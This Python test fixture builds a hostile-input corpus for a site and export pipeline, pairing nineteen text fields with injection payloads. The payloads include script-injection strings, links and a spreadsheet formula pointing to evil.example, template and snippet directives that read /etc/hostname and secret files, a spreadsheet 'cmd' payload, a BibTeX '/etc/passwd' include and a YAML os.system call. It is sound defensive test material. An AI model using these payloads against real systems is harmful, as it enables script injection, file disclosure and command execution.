"""The hostile-entry corpus for the whole pipeline: every payload in every text field that reaches the site
or the exports.

A payload is a template; `{m}` is replaced by a marker unique to the (field, payload) pair, so a test can
find exactly where that one value went and tell text that is shown from markup that got in. `SECRET_*`
placeholders name files the snippets trick would read; the fixture fills them in with real paths.
"""

from __future__ import annotations

from dataclasses import dataclass

SECRET_TOKEN = "hx-secret-must-never-be-published-7f3a"
"""Written into files inside and outside the project; no built file may ever contain it."""

LINE_MAX = 500
TEXT_MAX = 10_000


@dataclass(frozen=True)
class Field:
    """A text field a stranger can fill: where it lives and the longest value the model accepts."""

    name: str
    owner: str  # "entry", "person" or "topic"
    path: tuple[str | int, ...]
    limit: int


FIELDS = [
    Field("statement", "entry", ("statement",), TEXT_MAX),
    Field("role", "entry", ("role",), LINE_MAX),
    Field("context", "entry", ("context",), TEXT_MAX),
    Field("source.title", "entry", ("source", "title"), LINE_MAX),
    Field("source.publisher", "entry", ("source", "publisher"), LINE_MAX),
    Field("source.container", "entry", ("source", "container"), LINE_MAX),
    Field("source.event", "entry", ("source", "event"), LINE_MAX),
    Field("source.section", "entry", ("source", "section"), LINE_MAX),
    Field("source.page", "entry", ("source", "page"), LINE_MAX),
    Field("source.authors", "entry", ("source", "authors", 0), LINE_MAX),
    Field("found_via.title", "entry", ("found_via", 0, "title"), LINE_MAX),
    Field("verified.by", "entry", ("verified", "by"), LINE_MAX),
    Field("verified.note", "entry", ("verified", "note"), TEXT_MAX),
    Field("disputed.reason", "entry", ("disputed", "reason"), TEXT_MAX),
    Field("disputed.source.title", "entry", ("disputed", "source", "title"), LINE_MAX),
    Field("person.name", "person", ("name",), LINE_MAX),
    Field("person.description", "person", ("description",), LINE_MAX),
    Field("topic.title", "topic", ("title",), LINE_MAX),
    Field("topic.description", "topic", ("description",), LINE_MAX),
]

PAYLOADS: dict[str, str] = {
    "script": "<script>alert('{m}')</script> {m}",
    "img-onerror": "<img src=x onerror=alert('{m}')> {m}",
    "svg-style": "<svg onload=alert('{m}')><style>body{display:none}</style></svg> {m}",
    "iframe": '<iframe src="https://evil.example/{m}"></iframe><object data="https://evil.example/{m}"> {m}',
    "js-link": "[{m}](javascript:alert('{m}')) [x](JaVaScRiPt:alert(1)) <javascript:alert('{m}')>",
    "html-link": '<a href="https://evil.example/{m}">{m}</a> <a href="javascript:alert(\'{m}\')">x</a>',
    "md-image": "![{m}](https://evil.example/{m}.png) ![x][ref]\n\n[ref]: https://evil.example/ref.png",
    "autolink": "<https://evil.example/{m}> <mallory@evil.example> www.evil.example/{m}",
    "raw-html-block": "\n\n<div onclick=\"alert('{m}')\">\n\n**{m}**\n\n</div>\n\n<form action=\"https://evil.example\">",
    "attribute-break": "{m}\" onmouseover=\"alert('{m}')\" data-x=\"' onfocus='alert(1)' `",
    "closing-tags": "{m}</p></dd></dl></figure></article></div></title></textarea><script>alert('{m}')</script><!--",
    "jinja": "{m} {{ 7*7 }} {{ config.site_name }} {% raw %}r{% endraw %} {% include 'main.html' %} {#c#}",
    "admonition": "{m}\n\n!!! danger \"{m}\"\n    admonished {m}\n\n??? note\n    folded",
    "snippets": "{m}\n\n--8<-- \"SECRET_REL\"\n\n--8<-- \"SECRET_ABS\"\n\n--8<-- \"/etc/hostname\"\n\n;--8<--",
    "attr-list": "{m}{: onclick=\"alert('{m}')\" } [x](https://evil.example/{m}){: onclick=alert(1) }\n{: #kb-{m} }",
    "toc": "{m}\n\n[TOC]\n\n# heading {m}\n\n## sub",
    "front-matter": "---\ntitle: {m}\ntemplate: 404.html\n---\n{m}",
    "markdown": "**{m}** _{m}_ `{m}` ~~s~~\n\n> quote\n\n# heading {m}\n\n| a | b |\n|---|---|\n| {m} | x |\n\n* li",
    "entities": "&lt;script&gt;alert('{m}')&lt;/script&gt; &#x3C;b&#x3E; &amp; &nbsp; {m}",
    "comment-cdata": "<!-- {m} --> <![CDATA[ {m} ]]> <?php echo 1 ?> {m}",
    "plain-urls": "https://evil.example/{m} and javascript:alert('{m}') data:text/html,<b>{m}</b>",
    "csv-formula": "=HYPERLINK(\"https://evil.example/{m}\",\"{m}\")",
    "csv-plus": "+cmd|' /C calc'!A0 {m}",
    "csv-minus": "-2+3 {m}",
    "csv-at": "@SUM(1+1) {m}",
    "csv-tab": "\t=1+1 {m}",
    "bibtex-break": "{m}}, title = {pwned}, note = {\\input{/etc/passwd}} }\n@misc{injected,\n  title={x",
    "bibtex-and": "{m} and Eve Forged and {Braced} and others",
    "latex": "{m} \\url{javascript:alert(1)} \\def\\x{y} $x$ % # & ~ ^ _ \\\\",
    "yaml-like": "{m}: value\n- item\n? key\n&anchor *alias !!python/object/apply:os.system ['id']",
    "long": "{m} LONG",
    # flagged: invisible and deceptive characters (a warning; CI runs --strict, which fails on it)
    "bidi": "{m} \u202eevil\u202c \u2066x\u2069 \u200f",
    "zero-width": "{m}\u200b\u200c\u200d\u2060\ufeff",
    "homoglyph": "{m} \u0410da \u0415x\u0430mple",
    "c1-control": "{m}\u0085\u009b[{m}](javascript:alert('{m}'))",
    "terminal-escape": "{m} \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b[2J\x07",
}
"""Payload name -> template. `long` is padded to the field's limit with markup (see `value`)."""

FILL = "<script>alert(1)</script>[x](javascript:1){{ 7*7 }}"


def marker(payload_index: int, field_index: int) -> str:
    """Letters and digits only, fixed width, so no marker is a part of another."""
    return f"mk{payload_index:02d}f{field_index:02d}z"


def value(payload: str, field: Field, mark: str, secrets: dict[str, str]) -> str:
    """The text a stranger puts in `field`: the payload with its marker, at most the field's limit."""
    text = PAYLOADS[payload].replace("{m}", mark)
    for name, path in secrets.items():
        text = text.replace(name, path)
    if payload == "long":
        text += " " + FILL * (field.limit // len(FILL))
        text = text[: field.limit]
    return text


def yaml_quote(text: str) -> str:
    """A YAML double-quoted scalar; characters a YAML file may not hold raw are written as escapes."""
    out = []
    for char in text:
        code = ord(char)
        if char in '"\\':
            out.append("\\" + char)
        elif code < 0x20 or 0x7F <= code <= 0x9F or code in (0xFEFF, 0xFFFE, 0xFFFF) or 0xD800 <= code <= 0xDFFF:
            out.append(f"\\u{code:04x}")
        else:
            out.append(char)
    return '"' + "".join(out) + '"'


def flat(text: str) -> str:
    """Text with all whitespace removed: the site joins lines and splits paragraphs, the words stay."""
    return "".join(text.split())
